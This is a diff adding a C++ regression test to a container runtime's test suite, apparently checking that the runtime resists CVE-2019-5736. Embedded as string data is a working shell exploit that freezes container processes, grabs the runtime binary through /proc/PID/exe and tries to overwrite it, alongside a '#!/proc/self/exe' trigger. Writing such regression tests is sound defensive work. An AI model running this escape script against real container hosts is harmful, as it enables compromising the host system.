@@ -1135,6 +1135,70 @@ TEST_F(Oci, HooksInTheContainersNamespaces) {
 // (/proc/self/fd/N of a host directory the runtime held), named by the config or planted by the
 // container for the next exec, led out of the root onto the host. It is resolved inside the
 // root now, and no host directory is open in the container's processes.
+// CVE-2019-5736 (runc's): an image's "#!/proc/self/exe" script run by exec has a process in the
+// container run the runtime's binary; the container's first process (root, no user namespace)
+// freezes everything, takes that binary through /proc/PID/exe, kills the process and writes the
+// binary once nothing executes it. The runtime's binary (a copy here) stays as it was.
+TEST_F(Oci, ContainerCannotOverwriteTheRuntimesBinary) {
+    Bundle b;
+    TempDir bin;
+    std::string runtime = bin / "butter";
+    write_file(runtime, read_file(butter_bin()));
+    ASSERT_EQ(::chmod(runtime.c_str(), 0755), 0);
+    std::filesystem::create_directory(b / "out");
+    b.spec["mounts"].push_back({{"destination", "/out"},
+                                {"type", "bind"},
+                                {"source", b / "out"},
+                                {"options", {"rbind", "rw"}}});
+    write_file(b / "rootfs/trig", "#!/proc/self/exe run\n");
+    write_file(b / "rootfs/evil",
+               "#!/bin/sh\n"
+               "n=0\n"
+               "while [ $n -lt 30000 ]; do\n"
+               "  n=$((n+1)); kill -STOP -1 2>/dev/null\n"
+               "  for d in /proc/[0-9]*; do\n"
+               "    p=${d#/proc/}; [ \"$p\" = 1 ] && continue\n"
+               "    if dd if=$d/exe of=/dev/null bs=1 count=1 2>/dev/null; then\n"
+               "      case \"$(readlink $d/exe)\" in */busybox) continue ;; esac\n"
+               "      exec 3< $d/exe; kill -KILL $p; kill -CONT -1\n"
+               "      i=0\n"
+               "      while [ $i -lt 300 ]; do\n"
+               "        i=$((i+1))\n"
+               "        if (echo '#!/bin/sh' > /proc/self/fd/3) 2>/dev/null; then\n"
+               "          echo overwritten > /out/result; exec sleep 1000\n"
+               "        fi\n"
+               "        sleep 0.01\n"
+               "      done\n"
+               "      echo held > /out/result; exec sleep 1000\n"
+               "    fi\n"
+               "  done\n"
+               "  kill -CONT -1 2>/dev/null\n"
+               "done\n"
+               "echo not-found > /out/result; exec sleep 1000\n");
+    for (const char* f : {"rootfs/trig", "rootfs/evil"})
+        ASSERT_EQ(::chmod((b / f).c_str(), 0755), 0);
+    b.spec["process"]["args"] = {"/evil"};
+    b.save();
+    auto oci = [&](const std::string& args) {
+        RunOptions o;
+        o.cwd = b.path();
+        o.program = "/bin/sh";
+        return run_butter({"-c", "exec '" + runtime + "' oci --root '" + (b / "state") + "' " +
+                                     args + " </dev/null >/dev/null 2>&1"},
+                          o);
+    };
+    ASSERT_EQ(oci("run -d attacked").code, 0);
+    std::this_thread::sleep_for(std::chrono::milliseconds(200));
+    (void)oci("exec attacked /trig");
+    for (int i = 0; i < 1000 && read_file(b / "out/result").empty(); ++i)
+        std::this_thread::sleep_for(std::chrono::milliseconds(10));
+    EXPECT_EQ(read_file(b / "out/result"), "held\n");
+    EXPECT_EQ(read_file(runtime).substr(0, 4),
+              "\x7f"
+              "ELF");
+    EXPECT_EQ(oci("delete --force attacked").code, 0);
+}
+
 TEST_F(Oci, WorkingDirectoryNeverLeadsOutOfTheRoot) {
     Bundle b;
     for (const char* fd : {"/proc/self/fd/3", "/proc/self/fd/4"}) {
